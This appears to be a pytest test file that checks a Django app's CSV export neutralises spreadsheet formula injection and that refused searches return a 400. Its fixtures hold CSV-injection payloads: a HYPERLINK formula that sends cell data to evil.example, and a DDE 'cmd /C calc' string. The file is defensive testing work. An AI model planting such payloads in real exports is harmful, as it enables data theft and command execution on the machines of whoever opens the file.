"""The exports are safe to open: no published text runs as a spreadsheet formula, and a
search the database refuses is a 400 before the first byte, not a stream cut after its
header row.

A spreadsheet reads a CSV cell that begins with `=`, `+`, `-` or `@` (or a tab or a carriage
return before one) as a formula (OWASP, "CSV Injection"). The CSV export prefixes such a text
cell with a single quote, which shows it as text; the JSON export gives it exactly as typed.
"""

import csv
import io
import json

import pytest
from django.db import DatabaseError, connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from solutions.search import postgres
from solutions.views import exports
from solutions.views.exports import COLUMNS
from tests.support.factories import make_city, make_network, make_solution, make_theme

pytestmark = pytest.mark.django_db
on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="PostgreSQL full-text search"
)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def export_body(client, format, query=None):
    response = client.get(reverse("solutions:export", kwargs={"format": format}), query or {})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(client, query=None):
    reader = csv.DictReader(io.StringIO(export_body(client, "csv", query), newline=""))
    rows = list(reader)
    assert reader.fieldnames == COLUMNS
    return {row["url"].rstrip("/").rsplit("/", 1)[-1]: row for row in rows}


def json_rows(client, query=None):
    return {row["slug"]: row for row in json.loads(export_body(client, "json", query))}


def hostile_solution(trigger):
    """A solution whose every text a submitter or curator types begins with `trigger`."""
    formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"Open")'
    return make_solution(
        title=f"{trigger}2+5+cmd|' /C calc'!A0",
        slug="-dash-first" if trigger == "-" else "formula-first",
        summary=formula,
        city=make_city(name=f"{trigger}Lima", slug="lima"),
        network=make_network(name=f"{trigger}Network", slug="network"),
        themes=[make_theme(name=f"{trigger}Theme", slug="theme")],
        tags=[f"{trigger}tag"],
        start_year=2016,
        end_year=2020,
        cost_usd=120_000,
    )


def ordinary_solution():
    solution = make_solution(
        title="Water kiosks: cost = 5 rupees + tax",
        slug="water-kiosks",
        summary="Prepaid kiosks; -20% water lost, @ every ward.",
        city=make_city(name="Pune", slug="pune", country="IN"),
        network=make_network(name="City2City Network", slug="c2c"),
        themes=[make_theme(name="Water and sanitation", slug="water")],
        tags=["kiosks", "tariffs"],
        start_year=2016,
        end_year=2020,
        cost_usd=120_000,
    )
    solution.sdgs.add(6, 11)
    return solution


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_csv_cells_that_would_run_as_formulas_are_shown_as_text(client, trigger):
    solution = hostile_solution(trigger)
    ordinary_solution()

    row = csv_rows(client)[solution.slug]

    assert row["title"] == f"'{solution.title}"
    assert row["summary"] == f"'{solution.summary}"
    assert row["city"] == f"'{trigger}Lima"
    assert row["network"] == f"'{trigger}Network"
    assert row["themes"] == f"'{trigger}Theme"
    assert row["tags"] == f"'{trigger}tag"
    assert row["slug"] == (f"'{solution.slug}" if solution.slug.startswith("-") else solution.slug)
    # The numbers stay numbers.
    assert (row["start_year"], row["end_year"], row["cost_usd"]) == ("2016", "2020", "120000")


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_json_gives_the_same_texts_exactly_as_typed(client, trigger):
    solution = hostile_solution(trigger)

    row = json_rows(client)[solution.slug]

    assert row["slug"] == solution.slug
    assert row["title"] == solution.title
    assert row["summary"] == solution.summary
    assert row["city"] == f"{trigger}Lima"
    assert row["network"] == f"{trigger}Network"
    assert row["themes"] == [f"{trigger}Theme"]
    assert row["tags"] == [f"{trigger}tag"]
    assert (row["start_year"], row["end_year"], row["cost_usd"]) == (2016, 2020, 120_000)


def test_ordinary_text_and_numbers_are_exported_unchanged(client):
    solution = ordinary_solution()

    row = csv_rows(client)[solution.slug]

    assert row["slug"] == "water-kiosks"
    assert row["title"] == "Water kiosks: cost = 5 rupees + tax"
    assert row["summary"] == "Prepaid kiosks; -20% water lost, @ every ward."
    assert row["city"] == "Pune"
    assert row["country"] == "India"
    assert row["network"] == "City2City Network"
    assert row["themes"] == "Water and sanitation"
    assert row["tags"] == "kiosks; tariffs"
    assert row["sdgs"] == "6; 11"
    assert (row["start_year"], row["end_year"], row["cost_usd"]) == ("2016", "2020", "120000")
    assert row["published_at"] == solution.published_at.isoformat()


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (["=a", "b"], "'=a; b"),
        (["b", "=a"], "b; =a"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2016, 2016),
        ([6, 11], "6; 11"),
    ],
)
def test_a_csv_cell(value, cell):
    assert exports.csv_cell(value) == cell


# A search the database refuses


@pytest.mark.parametrize("format", ["csv", "json"])
def test_a_refused_search_is_a_clear_400_not_a_broken_stream(client, monkeypatch, format):
    make_solution(title="Water kiosks")

    def refused(queryset, build_url, *, full=False):
        raise DatabaseError("tsquery stack too small")
        yield  # a generator, like export_rows: it raises when the first row is asked for

    monkeypatch.setattr(exports, "export_rows", refused)

    response = client.get(reverse("solutions:export", kwargs={"format": format}), {"q": "water"})

    assert response.status_code == 400
    assert not response.streaming
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "search could not be run" in response.content.decode()


@on_postgresql
@pytest.mark.parametrize("format", ["csv", "json"])
def test_a_search_postgresql_refuses_is_a_400(client, monkeypatch, format):
    """The query text as typed, as the search once handed it over: 33 `-` or more overflow
    websearch_to_tsquery's stack."""
    make_solution(title="Water kiosks")
    monkeypatch.setattr(postgres, "websearch_text", lambda text: text)

    response = client.get(reverse("solutions:export", kwargs={"format": format}), {"q": "-" * 40})

    assert response.status_code == 400
    assert "search could not be run" in response.content.decode()


@pytest.mark.parametrize("format", ["csv", "json"])
def test_a_search_is_run_before_the_response_is_made(client, format):
    """With a search, the first rows are read before the response is made, so a database
    error cannot come after the header row. Without one the export reads nothing until it is
    consumed (tests/solutions/pages/test_open_data.py)."""
    make_solution(title="Water kiosks", slug="water-kiosks")
    make_solution(title="Solar roofs", slug="solar-roofs")

    with CaptureQueriesContext(connection) as before:
        response = client.get(
            reverse("solutions:export", kwargs={"format": format}), {"q": "water"}
        )
    with CaptureQueriesContext(connection) as during:
        body = b"".join(response.streaming_content).decode("utf-8")

    main_select = '"solutions_solution"."summary"'
    assert any(main_select in query["sql"] for query in before.captured_queries)
    assert not any(main_select in query["sql"] for query in during.captured_queries)
    assert "water-kiosks" in body
    assert "solar-roofs" not in body
    if format == "csv":
        assert next(csv.reader(io.StringIO(body))) == COLUMNS
    else:
        assert [row["slug"] for row in json.loads(body)] == ["water-kiosks"]
